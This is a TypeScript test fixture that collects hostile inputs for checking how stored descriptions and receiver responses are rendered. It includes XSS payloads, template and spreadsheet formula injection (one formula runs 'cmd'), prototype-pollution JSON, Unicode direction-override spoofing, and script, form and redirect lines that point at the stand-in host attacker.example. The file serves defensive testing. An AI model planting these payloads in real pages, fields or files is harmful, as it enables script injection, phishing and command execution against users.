/** What a payload sets if it ever runs. */
const run = 'window.attacked=true';
const elsewhere = 'https://attacker.example';

/** Texts that somebody could store to attack whoever reads them: each within the 200 characters of a description. */
export const payloads: Record<string, string> = {
  'script tag': `<script>${run}</script>`,
  'script from elsewhere': `<script src=${elsewhere}/a.js></script>`,
  'image with an error handler': `<img src=x onerror="${run}">`,
  'image from elsewhere': `<img src="${elsewhere}/pixel.png">`,
  'svg with a load handler': `<svg/onload=${run}>`,
  'svg with a script in it': `<svg><script>${run}</script></svg>`,
  'svg animation of a link': `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  'handler that takes focus': `<input autofocus onfocus="${run}">`,
  'details that open': `<details open ontoggle="${run}">`,
  'frame with a document': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'object with data': `<object data="data:text/html,<script>${run}</script>">`,
  'end of an attribute': `" autofocus onfocus="${run}" x="`,
  "end of React's text": `</p></td></script><script>${run}</script>`,
  'javascript link': `javascript:${run}//`,
  'markdown link': `[click](javascript:${run}) ![x](${elsewhere}/p.png) **bold** \`code\``,
  'data link': `data:text/html,<script>${run}</script>`,
  'plain URL': `${elsewhere}/login?next=%2F`,
  'template expression': `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %> #{7*7}`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  'base and form': `<base href="${elsewhere}/"><form action="${elsewhere}"><button>Sign in</button></form>`,
  'style sheet': `<style>*{display:none}@import url(${elsewhere}/a.css)</style>`,
  'style attribute': `<div style="position:fixed;inset:0;background:url(${elsewhere}/b.png)">`,
  'open comment': '<!-- hidden <![CDATA[ open',
  'text area that stays open': '</title><textarea><plaintext>',
  'NUL and controls': 'a\u0000b\u0007c\u0008d\u007fe\u0085f',
  'terminal escapes': '\u001b[31mred\u001b[0m \u001b]8;;https://attacker.example\u0007link',
  'line ends': 'first\r\nsecond\n\n\n\tthird',
  'separators of lines and paragraphs': 'first\u2028second\u2029third',
  'override to the left': 'invoice\u202efdp.exe',
  'override after a closed isolate': 'x\u2069\u2069\u202e!detcerroc',
  'isolates that stay open': 'a\u2066b\u2067c\u2068d',
  'embeddings that stay open': 'a\u202ab\u202bc\u202dd',
  'Arabic and Hebrew': 'مرحبا (1) שלום! 123 abc عربي',
  'direction marks': 'a\u200fb\u061cc\u200ed!',
  'zero width': 'pay\u200broll\u2060\ufeff\u00ad',
  'nothing to see': '\u3164\u2800\u200b',
  'tower of marks': `Z${'\u0335\u0321\u0353\u0489'.repeat(45)}`,
  'long word': 'W'.repeat(200),
  'emoji sequences': '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪👍🏽❤️‍🔥'.repeat(3),
  'wide letters': '﷽'.repeat(60),
  'formula for a spreadsheet': `=HYPERLINK("${elsewhere}","x")+cmd|' /C calc'!A0`,
  'text that looks like JSON': '{"role":"admin","__proto__":{"attacked":true}}',
  'text that looks like ours': 'Your session has expired. Sign in again: ⚠ Try again ✓ Enabled',
  'letters beyond the first plane': '𝕒𝖉𝓶𝒾𝓃 \u{1f130}\u{e0041}',
};

/** What a receiver keeps of an answer, in bytes (contract 4.4). */
const kept = 16 * 1024;

/** Bodies with which a receiver could answer. */
export const answers: Record<string, string> = {
  'a page': `<!doctype html><html><body onload="${run}"><h1>x</h1>${Object.values(payloads).join('\n')}`,
  'one word of 16 KB': 'W'.repeat(kept),
  '16 KB of marks': `Z${'\u0335'.repeat(kept / 2 - 1)}`,
  '16 KB of isolates and overrides': '\u2066\u202e\u2067!'.repeat(kept / 10),
  'deep JSON': `${'{"a":['.repeat(1200)}1${']}'.repeat(1200)}`,
};

/** Headers with which a receiver could answer: what a header can hold of each payload. */
export const answerHeaders = (): Record<string, string> =>
  Object.fromEntries(
    Object.values(payloads).map((text, index) => [
      `x-payload-${index}`,
      // Each byte of the UTF-8 as one character, which is how headers are read.
      Buffer.from(text.replace(/\p{Cc}/gu, ' '))
        .toString('latin1')
        .replace(/\p{Cc}/gu, '?'),
    ]),
  );
